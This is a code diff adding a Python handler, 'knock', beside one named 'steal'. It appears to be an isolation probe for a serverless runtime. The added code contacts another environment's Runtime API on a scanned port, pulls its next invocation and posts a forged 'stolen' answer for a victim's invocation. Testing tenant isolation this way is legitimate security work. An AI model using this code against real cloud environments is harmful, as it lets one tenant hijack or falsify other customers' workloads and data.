@@ -94,3 +94,26 @@ def steal(event, context):
     except Exception:  # blocked until the timeout, as it must be, or refused
         fetched = None
     return {"answer_status": answer_status, "error_status": error_status, "fetched": fetched}
+
+
+def knock(event, context):
+    """Call another environment's Runtime API listener (its port found, as by a port scan) under
+    this environment's own host name: /next and an answer to the victim's invocation."""
+    own_name = os.environ["AWS_LAMBDA_RUNTIME_API"].rpartition(":")[0]
+    base = f"http://{own_name}:{event['port']}/2018-06-01/runtime"
+    statuses = {}
+    for what, request in (
+        ("next", urllib.request.Request(f"{base}/invocation/next")),
+        (
+            "answer",
+            urllib.request.Request(
+                f"{base}/invocation/{event['victim']}/response", data=b'"stolen"', method="POST"
+            ),
+        ),
+    ):
+        try:
+            with urllib.request.urlopen(request, timeout=5) as response:
+                statuses[what] = response.status
+        except urllib.error.HTTPError as exc:
+            statuses[what] = exc.code
+    return statuses
